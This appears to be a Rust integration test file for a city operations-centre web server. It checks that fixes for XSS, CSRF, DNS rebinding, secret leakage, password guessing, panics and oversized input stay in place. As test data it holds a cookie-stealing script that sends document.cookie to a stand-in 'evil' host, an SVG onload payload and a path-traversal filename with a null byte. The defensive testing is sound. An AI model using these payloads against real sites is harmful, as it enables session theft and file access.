//! The holes a review found, each shut and kept shut, over real sockets: stored XSS through
//! attachments, the session where scripts cannot read it and CSRF, secrets handed out by the
//! API and the audit log, DNS rebinding, guessing passwords, panics and extreme dates,
//! oversized bodies and fields, attachment names.

mod common;

use common::{add_user as add, token, PASSWORD};

use ioc_engine::{Engine, Item, Obs};
use ioc_model::{Domain, Entity, Role, Unit};
use serde_json::{json, Value};
use std::net::SocketAddr;
use std::sync::Arc;
use tokio_tungstenite::tungstenite::client::IntoClientRequest;

const A: &str = "16681";

use common::{start, start_with};

fn flooded_gauge(id: &str, unit: &str) -> Vec<Item> {
    let e = Entity::new(id, "WaterLevelGauge", id, Domain::Water)
        .at(105.5, 18.7)
        .in_unit(unit, unit)
        .with_attr("alarm_1", 3.0)
        .with_attr("alarm_2", 4.0)
        .with_attr("alarm_3", 5.0);
    vec![
        Item::Unit(Unit {
            code: unit.into(),
            name: unit.into(),
            full_name: None,
            parent: None,
            lon: None,
            lat: None,
        }),
        Item::Entity(Box::new(e)),
        Item::Obs(Obs {
            entity: Arc::from(id),
            metric: Arc::from("water_level"),
            time: chrono::Utc::now() - chrono::Duration::seconds(5),
            value: 5.5,
        }),
    ]
}

fn http() -> reqwest::Client {
    reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap()
}

fn header(r: &reqwest::Response, name: &str) -> String {
    r.headers()
        .get(name)
        .map(|v| v.to_str().unwrap().to_string())
        .unwrap_or_default()
}

/// An incident of unit A to attach files to.
async fn incident(engine: &Engine, addr: SocketAddr, t: &str) -> i64 {
    engine
        .sender()
        .ingest("t", flooded_gauge("wl-a", A))
        .await
        .unwrap();
    let v: Value = http()
        .get(format!("http://{addr}/api/incidents"))
        .bearer_auth(t)
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    v[0]["id"].as_i64().expect("the flood's incident")
}

#[tokio::test(flavor = "multi_thread")]
async fn uploaded_files_are_never_shown_as_pages() {
    let (_d, engine, addr) = start().await;
    add(&engine, "admin", Role::Admin, &[]);
    add(&engine, "oc", Role::OcStaff, &[A]);
    let admin = token(addr, "admin").await;
    let oc = token(addr, "oc").await;
    let id = incident(&engine, addr, &admin).await;
    let upload = |name: &str, ct: &str, body: Vec<u8>| {
        http()
            .post(format!(
                "http://{addr}/api/incidents/{id}/attachments?name={}",
                urlencode(name)
            ))
            .bearer_auth(&oc)
            .header("content-type", ct)
            .body(body)
    };
    // The commune's staff attach "a page" that would steal the admin's session.
    let html = b"<html><script>fetch('//evil/'+document.cookie)</script></html>".to_vec();
    let r = upload("bao-cao.html", "text/html", html)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 201);
    let page: Value = r.json().await.unwrap();
    // A picture claimed to be one, but HTML inside.
    let fake = b"<svg onload=alert(1)>".to_vec();
    let r = upload("anh.png", "image/png", fake).send().await.unwrap();
    let fake: Value = r.json().await.unwrap();
    // A real PNG, and a name that tries to climb out.
    let png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec();
    let r = upload("../../etc/pass\0wd.png", "image/png", png)
        .send()
        .await
        .unwrap();
    let real: Value = r.json().await.unwrap();
    assert_eq!(real["name"], "passwd.png", "{real}");

    let get = |id: &Value| {
        http()
            .get(format!("http://{addr}/api/attachments/{}", id["id"]))
            .bearer_auth(&admin)
            .send()
    };
    for (what, att) in [("the HTML page", &page), ("the fake picture", &fake)] {
        let r = get(att).await.unwrap();
        assert_eq!(r.status(), 200);
        assert_eq!(
            header(&r, "content-type"),
            "application/octet-stream",
            "{what}"
        );
        assert!(
            header(&r, "content-disposition").starts_with("attachment;"),
            "{what}: {}",
            header(&r, "content-disposition")
        );
        assert_eq!(header(&r, "x-content-type-options"), "nosniff", "{what}");
    }
    let r = get(&real).await.unwrap();
    assert_eq!(header(&r, "content-type"), "image/png");
    assert!(header(&r, "content-disposition").starts_with("inline;"));
    assert!(header(&r, "content-disposition").contains("filename=\"passwd.png\""));
    assert!(header(&r, "content-security-policy").contains("sandbox"));
    // The after-action report lists the cleaned name, never the climbing one.
    let csv = http()
        .get(format!("http://{addr}/api/incidents/{id}/report.csv"))
        .bearer_auth(&admin)
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(csv.contains("passwd.png") && !csv.contains("../"), "{csv}");
}

fn urlencode(s: &str) -> String {
    s.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() || b"-._".contains(&b) {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn every_response_carries_the_security_headers() {
    let (_d, engine, addr) = start().await;
    add(&engine, "admin", Role::Admin, &[]);
    let t = token(addr, "admin").await;
    let mut checked = 0;
    for (path, auth) in [
        ("/", false),
        ("/wall", false),
        ("/no-such-file.js", false),
        ("/api/health", false),
        ("/api/ready", false),
        ("/api/health", true),
        ("/api/alerts/999", true),
        ("/api/no/such/route", true),
        ("/api/openapi.json", false),
    ] {
        let mut req = http().get(format!("http://{addr}{path}"));
        if auth {
            req = req.bearer_auth(&t);
        }
        let r = req.send().await.unwrap();
        let csp = header(&r, "content-security-policy");
        assert!(
            csp.contains("default-src 'self'")
                && csp.contains("script-src 'self' 'wasm-unsafe-eval';")
                && csp.contains("frame-ancestors 'none'")
                && csp.contains("object-src 'none'"),
            "{path}: {csp}"
        );
        assert_eq!(header(&r, "x-content-type-options"), "nosniff", "{path}");
        checked += 1;
    }
    assert_eq!(checked, 9);
}

#[tokio::test(flavor = "multi_thread")]
async fn the_session_is_an_httponly_cookie_and_cross_site_requests_are_refused() {
    let (_d, engine, addr) = start().await;
    add(&engine, "admin", Role::Admin, &[]);
    let r = http()
        .post(format!("http://{addr}/api/login"))
        .json(&json!({"username": "admin", "password": PASSWORD}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    let set = header(&r, "set-cookie");
    let port = addr.port();
    assert!(set.starts_with(&format!("ioc_session_{port}=")), "{set}");
    for attr in ["HttpOnly", "SameSite=Strict", "Path=/"] {
        assert!(set.contains(attr), "{attr} in {set}");
    }
    let body: Value = r.json().await.unwrap();
    assert!(
        body.get("token").is_none(),
        "the UI is never handed the token: {body}"
    );
    let cookie = set.split(';').next().unwrap().to_string();
    let url = |p: &str| format!("http://{addr}{p}");
    let origin = format!("http://{addr}");

    // Reading with the cookie works.
    let r = http()
        .get(url("/api/me"))
        .header("cookie", &cookie)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    // Changing something with it needs this site's Origin (or Sec-Fetch-Site).
    let source =
        "name = \"x\"\nkind = \"http\"\nurl = \"http://127.0.0.1:9/\"\ndecoder = \"ngsi-ld\"\n";
    let post = |extra: Option<(&str, String)>| {
        let mut r = http()
            .post(url("/api/sources"))
            .header("cookie", &cookie)
            .body(source);
        if let Some((k, v)) = extra {
            r = r.header(k, v);
        }
        r.send()
    };
    assert_eq!(post(None).await.unwrap().status(), 403, "no origin");
    assert_eq!(
        post(Some(("origin", "http://attacker.example".into())))
            .await
            .unwrap()
            .status(),
        403
    );
    assert_eq!(
        post(Some(("sec-fetch-site", "cross-site".into())))
            .await
            .unwrap()
            .status(),
        403
    );
    assert_eq!(
        post(Some(("origin", origin.clone())))
            .await
            .unwrap()
            .status(),
        200
    );
    // The feed: with the cookie, only from our origin.
    let ws = |o: &str| {
        let mut req = format!("ws://{addr}/ws").into_client_request().unwrap();
        req.headers_mut().insert("cookie", cookie.parse().unwrap());
        req.headers_mut().insert("origin", o.parse().unwrap());
        tokio_tungstenite::connect_async(req)
    };
    assert!(ws("http://attacker.example").await.is_err());
    assert!(ws(&origin).await.is_ok());
    // A token in the address is not a session.
    let r = http()
        .get(url("/api/me?token=whatever"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 401);
    // Signing out removes the cookie and ends the session.
    let r = http()
        .post(url("/api/logout"))
        .header("cookie", &cookie)
        .header("origin", &origin)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 204);
    assert!(header(&r, "set-cookie").contains("Max-Age=0"));
    let r = http()
        .get(url("/api/me"))
        .header("cookie", &cookie)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 401);
}

#[tokio::test(flavor = "multi_thread")]
async fn the_desktop_ticket_becomes_a_cookie_once() {
    let (_d, engine, addr) = start().await;
    add(&engine, "admin", Role::Admin, &[]);
    let ticket = engine
        .auth()
        .desktop_ticket("lan", chrono::Utc::now().timestamp_millis());
    let url =
        format!("http://{addr}/api/session/desktop?ticket={ticket}&next=%2Fwall%3Fscreen%3D2");
    let r = http().get(&url).send().await.unwrap();
    assert_eq!(r.status(), 303);
    assert_eq!(header(&r, "location"), "/wall?screen=2");
    let cookie = header(&r, "set-cookie");
    assert!(cookie.contains("HttpOnly"));
    let cookie = cookie.split(';').next().unwrap().to_string();
    let me: Value = http()
        .get(format!("http://{addr}/api/me"))
        .header("cookie", &cookie)
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(me["user"]["username"], "desktop:lan");
    assert_eq!(
        http().get(&url).send().await.unwrap().status(),
        401,
        "used once"
    );
    // Never a redirect to another site.
    let t2 = engine
        .auth()
        .desktop_ticket("lan", chrono::Utc::now().timestamp_millis());
    let r = http()
        .get(format!(
            "http://{addr}/api/session/desktop?ticket={t2}&next=%2F%2Fattacker.example"
        ))
        .send()
        .await
        .unwrap();
    assert_eq!(header(&r, "location"), "/");
}

#[tokio::test(flavor = "multi_thread")]
async fn another_host_name_gets_nothing() {
    let (_d, _engine, addr) =
        start_with(|c| c.server.hosts = vec!["ioc.nghean.gov.vn".into()]).await;
    // While no account exists the console is open: exactly what a rebinding page wants.
    let get = |host: &str| {
        http()
            .get(format!("http://{addr}/api/me"))
            .header("host", host)
            .send()
    };
    assert_eq!(get("attacker.example").await.unwrap().status(), 421);
    assert_eq!(get("attacker.example:8080").await.unwrap().status(), 421);
    assert_eq!(get(&addr.to_string()).await.unwrap().status(), 200);
    assert_eq!(get("localhost").await.unwrap().status(), 200);
    assert_eq!(get("ioc.nghean.gov.vn").await.unwrap().status(), 200);
    // UI files too.
    let r = http()
        .get(format!("http://{addr}/"))
        .header("host", "attacker.example")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 421);
    assert_eq!(header(&r, "x-content-type-options"), "nosniff");
    // A page of another site (right host, foreign origin).
    let r = http()
        .post(format!("http://{addr}/api/sources"))
        .header("origin", "http://attacker.example")
        .body("name = \"x\"\nkind = \"http\"\nurl = \"http://127.0.0.1:9/\"\n")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 403);
    // The WebSocket upgrade too.
    let mut req = format!("ws://{addr}/ws").into_client_request().unwrap();
    req.headers_mut()
        .insert("host", "attacker.example".parse().unwrap());
    assert!(tokio_tungstenite::connect_async(req).await.is_err());
    let mut req = format!("ws://{addr}/ws").into_client_request().unwrap();
    req.headers_mut()
        .insert("origin", "http://attacker.example".parse().unwrap());
    assert!(tokio_tungstenite::connect_async(req).await.is_err());
    let req = format!("ws://{addr}/ws").into_client_request().unwrap();
    assert!(tokio_tungstenite::connect_async(req).await.is_ok());
}

#[tokio::test(flavor = "multi_thread")]
async fn secrets_are_write_only() {
    let (dir, engine, addr) = start().await;
    add(&engine, "admin", Role::Admin, &[]);
    add(&engine, "op", Role::Operator, &[]);
    let admin = token(addr, "admin").await;
    let op = token(addr, "op").await;
    let source = "name = \"kho\"\nkind = \"http\"\nurl = \"http://u:pw-SECRET-0@127.0.0.1:9/\"\n\
                  decoder = \"ngsi-ld\"\n\
                  bearer_token = \"tok-SECRET-1\"\nheaders = { \"X-Api-Key\" = \"key-SECRET-2\" }\n";
    let put = |body: String| {
        http()
            .post(format!("http://{addr}/api/sources"))
            .bearer_auth(&admin)
            .body(body)
            .send()
    };
    let r = put(source.into()).await.unwrap();
    assert_eq!(r.status(), 200);
    let shown = r.text().await.unwrap();
    let secrets = ["pw-SECRET-0", "tok-SECRET-1", "key-SECRET-2"];
    let leaks = |text: &str| -> Vec<&str> {
        secrets
            .iter()
            .copied()
            .filter(|s| text.contains(s))
            .collect()
    };
    assert_eq!(leaks(&shown), Vec::<&str>::new(), "{shown}");
    for t in [&admin, &op] {
        let list = http()
            .get(format!("http://{addr}/api/sources"))
            .bearer_auth(t)
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        assert_eq!(leaks(&list), Vec::<&str>::new(), "{list}");
        assert!(list.contains("\"kho\""));
    }
    let list: Value = http()
        .get(format!("http://{addr}/api/sources"))
        .bearer_auth(&admin)
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let kho = list
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["name"] == "kho")
        .unwrap();
    let set: Vec<(&str, bool)> = kho["secrets"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| (s["key"].as_str().unwrap(), s["set"].as_bool().unwrap()))
        .collect();
    assert_eq!(
        set,
        [
            ("bearer_token", true),
            ("headers.X-Api-Key", true),
            ("url", true)
        ]
    );
    // An edit that leaves the secrets out keeps them (what is stored still has them).
    let edited = kho["config"].as_str().unwrap().replace("1m", "5m") + "interval = \"5m\"\n";
    let r = put(edited).await.unwrap();
    assert_eq!(r.status(), 200, "{}", r.text().await.unwrap());
    let conn = ioc_engine::store::connect_path(engine.store()).unwrap();
    let stored: String = conn
        .query_row(
            "SELECT config FROM managed_sources WHERE name = 'kho'",
            ioc_engine::store::db::params![],
            |r| r.get(0),
        )
        .unwrap();
    assert_eq!(leaks(&stored), secrets.to_vec(), "kept: {stored}");
    // The audit log has the changes, never the values.
    let audit = http()
        .get(format!("http://{addr}/api/audit?target=source:kho"))
        .bearer_auth(&admin)
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(audit.contains("source.put"), "{audit}");
    assert_eq!(leaks(&audit), Vec::<&str>::new(), "{audit}");
    let rows: String = conn
        .query_row(
            "SELECT group_concat(coalesce(before, '') || coalesce(after, ''), '') FROM audit",
            ioc_engine::store::db::params![],
            |r| r.get(0),
        )
        .unwrap();
    assert_eq!(leaks(&rows), Vec::<&str>::new(), "stored audit rows");
    // The files that hold them are the owner's only.
    use std::os::unix::fs::PermissionsExt;
    let mode = |p: &std::path::Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode(dir.path()), 0o700);
    assert_eq!(
        mode(engine.store().sqlite_path().expect("SQLite by default")),
        0o600
    );
    for f in ["ioc.db-wal", "ioc.db-shm"] {
        let p = dir.path().join(f);
        if p.exists() {
            assert_eq!(mode(&p), 0o600, "{f}");
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn guessing_passwords_is_slowed_down_and_audited() {
    let (_d, engine, addr) = start().await;
    add(&engine, "admin", Role::Admin, &[]);
    add(&engine, "lan", Role::Operator, &[]);
    let login = |pw: &str| {
        http()
            .post(format!("http://{addr}/api/login"))
            .json(&json!({"username": "lan", "password": pw}))
            .send()
    };
    let started = std::time::Instant::now();
    for _ in 0..5 {
        assert_eq!(login("đoán-thử").await.unwrap().status(), 401);
    }
    // Each failure took its delay.
    assert!(started.elapsed() >= std::time::Duration::from_secs(4));
    assert_eq!(login("đoán-thử").await.unwrap().status(), 401);
    // Locked now, even with the right password.
    let r = login(PASSWORD).await.unwrap();
    assert_eq!(r.status(), 429);
    assert!(r.text().await.unwrap().contains("try again"));
    let admin = token(addr, "admin").await;
    let log: Value = http()
        .get(format!("http://{addr}/api/audit?target=user:lan"))
        .bearer_auth(&admin)
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let actions: Vec<&str> = log
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["action"].as_str().unwrap())
        .collect();
    assert_eq!(actions.iter().filter(|a| **a == "login.failed").count(), 5);
    assert_eq!(actions.iter().filter(|a| **a == "login.locked").count(), 2);
    assert!(log.to_string().contains("address:127.0.0.1"));
    assert!(!log.to_string().contains("đoán-thử"));
}

#[tokio::test(flavor = "multi_thread")]
async fn extreme_dates_are_refused_not_panicked_on() {
    let (_d, engine, addr) = start().await;
    add(&engine, "admin", Role::Admin, &[]);
    let t = token(addr, "admin").await;
    let get = |p: String| {
        http()
            .get(format!("http://{addr}{p}"))
            .bearer_auth(&t)
            .send()
    };
    let mut n = 0;
    for date in [
        "%2B262142-12-31",
        "-262143-01-01",
        "9999-12-31",
        "0001-01-01",
    ] {
        for p in ["month", "week", "day", "hour"] {
            let r = get(format!("/api/kpis?period={p}&date={date}"))
                .await
                .unwrap();
            assert_eq!(r.status(), 422, "{p} {date}");
            n += 1;
        }
        for path in ["/api/kpis/pm25-mean", "/api/kpis/pm25-mean/detail"] {
            let r = get(format!("{path}?period=month&date={date}"))
                .await
                .unwrap();
            assert_eq!(r.status(), 422, "{path} {date}");
        }
        let r = http()
            .post(format!("http://{addr}/api/reports"))
            .bearer_auth(&t)
            .json(&json!({"period": "month", "date": date.replace("%2B", "+"), "format": "csv"}))
            .send()
            .await
            .unwrap();
        assert!(
            r.status() == 422 || r.status() == 400,
            "{date}: {}",
            r.status()
        );
    }
    for q in [
        "to=%2B262142-12-31T00:00:00Z",
        "from=-262143-01-01T00:00:00Z",
    ] {
        let r = get(format!("/api/kpis/pm25-mean/series?{q}"))
            .await
            .unwrap();
        assert_eq!(r.status(), 422, "{q}");
        let r = get(format!("/api/entities/x/series?metric=pm25&{q}"))
            .await
            .unwrap();
        assert_eq!(r.status(), 422, "{q}");
    }
    assert_eq!(n, 16);
    // The server is still there.
    assert_eq!(get("/api/health".into()).await.unwrap().status(), 200);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_panicking_handler_is_answered_500_with_an_id() {
    use axum::routing::get;
    let app = axum::Router::new().route(
        "/boom",
        get(|| async {
            if true {
                panic!("a bug");
            }
            "never"
        }),
    );
    let app = ioc_server::harden(app, Arc::new(ioc_server::Hosts::new(&[])));
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, app).await });
    let r = http()
        .get(format!("http://{addr}/boom"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 500);
    assert_eq!(header(&r, "x-content-type-options"), "nosniff");
    let v: Value = r.json().await.unwrap();
    let id = v["id"].as_str().unwrap();
    assert_eq!(id.len(), 12);
    assert!(v["error"].as_str().unwrap().contains(id));
    // The server goes on.
    assert_eq!(
        http()
            .get(format!("http://{addr}/boom"))
            .send()
            .await
            .unwrap()
            .status(),
        500
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn bodies_and_fields_have_limits() {
    let (_d, engine, addr) = start().await;
    add(&engine, "admin", Role::Admin, &[]);
    let t = token(addr, "admin").await;
    let id = incident(&engine, addr, &t).await;
    let post = |p: String, body: Value| {
        http()
            .post(format!("http://{addr}{p}"))
            .bearer_auth(&t)
            .json(&body)
            .send()
    };
    // A 3 MB body is not read whole.
    let big = json!({"comment": "x".repeat(3 * 1024 * 1024)});
    // 413 as soon as the limit is passed; a client still sending may instead see the
    // connection closed under it. Either way nothing is stored (the list stays small below).
    match post(format!("/api/incidents/{id}/comment"), big).await {
        Ok(r) => assert_eq!(r.status(), 413),
        Err(e) => assert!(e.is_request() || e.is_body(), "{e}"),
    }
    // A 100 kB comment, a 1 kB assignee.
    let r = post(
        format!("/api/incidents/{id}/comment"),
        json!({"comment": "x".repeat(100_000)}),
    )
    .await
    .unwrap();
    assert_eq!(r.status(), 422);
    let alerts: Value = http()
        .get(format!("http://{addr}/api/alerts"))
        .bearer_auth(&t)
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let alert = alerts[0]["id"].as_i64().unwrap();
    let r = post(
        format!("/api/alerts/{alert}/assign"),
        json!({"to": "đội ".repeat(300)}),
    )
    .await
    .unwrap();
    assert_eq!(r.status(), 422);
    let r = post(
        format!("/api/alerts/{alert}/comment"),
        json!({"comment": "y".repeat(5_000)}),
    )
    .await
    .unwrap();
    assert_eq!(r.status(), 422);
    // What is within the limits still goes through.
    let r = post(
        format!("/api/alerts/{alert}/comment"),
        json!({"comment": "nước đang rút"}),
    )
    .await
    .unwrap();
    assert_eq!(r.status(), 200);
    let list = http()
        .get(format!("http://{addr}/api/alerts"))
        .bearer_auth(&t)
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(list.len() < 20_000, "{}", list.len());
}
